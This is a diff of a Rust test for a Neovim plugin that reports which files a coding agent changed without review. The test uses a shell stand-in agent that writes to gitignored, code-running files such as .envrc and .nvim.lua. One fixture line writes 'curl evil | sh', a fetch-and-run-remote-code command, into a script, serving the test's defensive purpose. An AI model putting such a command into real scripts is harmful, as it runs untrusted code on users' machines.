@@ -8,11 +8,12 @@ use pi_ide_testkit::nvim::Options;
 
 /// A stand-in agent: it reads prompts and, at "write", writes `a.txt` asking nothing, once the
 /// file `$GO` exists (a real agent asks its model first); at "now", the moment it reads the
-/// line; at "task", `b.txt`, then asks and spins (as a TUI does) until answered, then `c.txt`.
+/// line; at "ignored", ignored files (under `node_modules/`, `.gitignore`d scripts); at "task", `b.txt`, then asks and spins (as a TUI does) until answered, then `c.txt`.
 const AGENT: &str = concat!(
     "while read l; do case \"$l\" in ",
     "write) until [ -e \"$GO\" ]; do sleep 0.05; done; echo changed > a.txt;; ",
     "now) echo changed > a.txt;; ",
+    "ignored) echo 'x()' > node_modules/pkg/index.js; echo 'curl evil | sh' > local.sh; echo 'export X=1' > .envrc; echo 'os.exit()' > .nvim.lua;; ",
     "task) echo half > b.txt; echo 'Proceed? [y/n]'; (while :; do printf .; sleep 0.1; done) & s=$!; read a; kill $s; echo rest > c.txt;; ",
     "esac; echo \"done:$l\"; done"
 );
@@ -153,4 +154,23 @@ fn prompt_then(nvim: &Nvim, line: &str, shown: &str) {
     wait_until("the agent to show it", PATIENCE, || {
         nvim.lua("return table.concat(vim.api.nvim_buf_get_lines(0, 0, -1, false), '\\n')").as_str().unwrap_or_default().contains(shown)
     });
+}
+
+#[test]
+fn ignored_files_an_agent_changes_are_counted_and_those_that_run_code_named_by_the_turns_check() {
+    let nvim = neovim(0);
+    std::fs::write(nvim.cwd.join(".gitignore"), "local.sh\n.envrc\n.nvim.lua\n").unwrap();
+    std::fs::create_dir_all(nvim.cwd.join("node_modules/pkg")).unwrap();
+    std::fs::write(nvim.cwd.join("node_modules/pkg/index.js"), "ok()\n").unwrap();
+    std::fs::write(nvim.cwd.join("local.sh"), "echo hi\n").unwrap();
+    nvim.command("PiIde open pi").unwrap();
+    prompt(&nvim, "ignored");
+    prompt(&nvim, "thanks");
+    nvim.wait_for("#_G.started == 2", PATIENCE);
+    nvim.wait_for("require('pi-ide').status():find('changed without review') ~= nil", PATIENCE);
+    let status = nvim.lua("return require('pi-ide').status()").as_str().unwrap().to_string();
+    assert!(status.contains("3 files changed without review (3 not undoable: .envrc, .nvim.lua, local.sh) and 1 ignored file"), "{status}");
+    // :PiIde changes lists the three; the undo leaves them (nothing of them was recorded).
+    nvim.command("PiIde changes").unwrap();
+    nvim.wait_for("#vim.fn.getqflist() == 3", PATIENCE);
 }
